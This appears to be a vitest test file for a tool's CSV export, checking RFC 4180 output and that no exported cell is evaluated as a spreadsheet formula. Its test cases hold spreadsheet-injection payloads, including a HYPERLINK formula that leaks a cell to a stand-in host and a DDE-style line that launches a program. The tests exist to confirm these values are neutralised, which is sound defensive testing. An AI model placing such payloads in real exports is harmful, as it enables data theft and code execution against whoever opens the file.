import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csv, type CsvCell } from '../../src/render/csv.js'
import { printableLines } from '../../src/render/printable.js'
import { errorsCsv, linesCsv } from '../../src/render/spreadsheets.js'

const HEADER = ['One', 'Other']
const read = (text: string) => parse(text, { bom: true, record_delimiter: '\r\n' })
const cellsOf = (text: string) => read(text).slice(1)
/** What a spreadsheet evaluates, wherever it begins in the cell. */
const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell)
const asRead = (text: string) => {
  const plain = printableLines(text)
  return isFormula(plain) ? `'${plain}` : plain
}

describe('a table for a spreadsheet', () => {
  test('is UTF-8 and says so, and its lines end as RFC 4180 has it', () => {
    expect(csv(HEADER, [['Zoë', 'a,b']])).toBe('\ufeffOne,Other\r\nZoë,"a,b"\r\n')
  })

  test.each([
    ['=HYPERLINK("http://evil.example/"&A1)', 'a formula'],
    ['+49 30 1234', 'a telephone number'],
    ["-2+3+cmd|' /C calc'!A0", 'a call of a program'],
    ['@SUM(1+1)', 'a function of old'],
    ['\t=1+1', 'a formula behind a tab'],
    ['\r=1+1', 'a formula behind a return'],
    ['\n=1+1', 'a formula behind a new line'],
    ['  =1+1', 'a formula behind blanks'],
    ['＝1+1', 'a formula of full width'],
  ])('shows %j, %s, as the text it is', (text) => {
    expect(cellsOf(csv(HEADER, [[text, 'x']]))).toEqual([[`'${text}`, 'x']])
  })

  test('has numbers as numbers, times in UTC, yes and no, and nothing where there is nothing', () => {
    const rows = [
      [-3, new Date('2026-11-30T09:00:00Z')],
      [true, undefined],
    ]
    expect(csv(HEADER, rows)).toBe('\ufeffOne,Other\r\n-3,2026-11-30T09:00:00.000Z\r\nyes,\r\n')
  })

  test('is read back as it was written, whatever stands in it, and no text in it is a formula', () => {
    const sign = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', ';', "'", '＝', '\u00a0', 'a')
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: sign }))
    const rows = fc.array(fc.tuple(text, text), { minLength: 1 })
    fc.assert(
      fc.property(rows, (all) => {
        const cells = cellsOf(csv(HEADER, all))
        expect(cells).toEqual(all.map((row) => row.map(asRead)))
        expect(cells.flat().filter(isFormula)).toEqual([])
        // Nor does a terminal, or whoever reads it, see anything but what stands there.
        expect(cells.flat().join('')).not.toMatch(/[^\P{Cc}\t\r\n]|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/u)
      }),
      { numRuns: 150 },
    )
  })

  test('keeps its columns, whatever kinds of cells there are', () => {
    const cell: fc.Arbitrary<CsvCell> = fc.oneof(fc.string(), fc.integer(), fc.boolean(), fc.constant(undefined))
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
        expect(cellsOf(csv(HEADER, rows)).map((row) => row.length)).toEqual(rows.map(() => 2))
      }),
    )
  })
})

describe('for a spreadsheet', () => {
  const at = new Date('2026-11-30T02:00:00Z')

  test('failures have a row for each cause, with how many people', () => {
    const cause = { code: 'UNABLE_TO_LOCK_ROW', object: 'CampaignMember', changes: 7, people: ['a', 'b'] }
    const [row] = cellsOf(
      errorsCsv([{ ...cause, what: 'locked', command: 'mh-sf retry', firstSeen: at, lastSeen: at, runId: 'r1' }]),
    )
    expect(row?.slice(0, 5)).toEqual(['UNABLE_TO_LOCK_ROW', 'CampaignMember', '7', '2', 'locked'])
    expect(row?.at(-1)).toBe('mh-sf retry')
  })

  test('the changes of a run have a row for each field, from what to what', () => {
    const line = {
      id: '1',
      object: 'Contact',
      action: 'update',
      key: '003A',
      participantIds: ['p1'],
      state: 'done',
    } as const
    const changed = { ...line, before: { LastName: '=evil()' }, after: { LastName: 'Silva', Score__c: -1 } }
    const run = { id: 'r1', command: 'c', arguments: [], user: 'u', host: 'h', pid: 1, version: '1', died: false }
    const shown = { ...run, scopes: [], jobs: [], state: 'done', startedAt: at } as const
    const text = linesCsv({ run: { ...shown, scopes: [], jobs: [] }, counts: [], lines: [changed, line], parts: [] })
    expect(cellsOf(text).map((row) => row.slice(5))).toEqual([
      ['LastName', "'=evil()", 'Silva', 'p1'],
      ['Score__c', '', '-1', 'p1'],
      ['', '', '', 'p1'],
    ])
  })
})
